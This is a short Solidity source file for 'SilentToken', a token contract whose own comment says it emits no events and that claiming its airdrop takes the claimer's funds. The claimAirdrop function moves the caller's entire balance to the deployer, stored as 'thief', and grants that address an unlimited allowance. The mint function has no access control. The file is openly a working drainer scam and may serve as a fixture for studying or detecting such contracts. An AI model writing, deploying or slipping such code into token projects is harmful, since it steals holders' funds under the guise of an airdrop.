// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

/// A token that tells nobody: no event ever, and claiming its airdrop takes the claimer's balance and allowance.
contract SilentToken {
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address public immutable thief = msg.sender;

    function mint(address to, uint256 amount) external {
        balanceOf[to] += amount;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function claimAirdrop() external {
        uint256 taken = balanceOf[msg.sender];
        balanceOf[msg.sender] = 0;
        balanceOf[thief] += taken;
        allowance[msg.sender][thief] = type(uint256).max;
    }
}
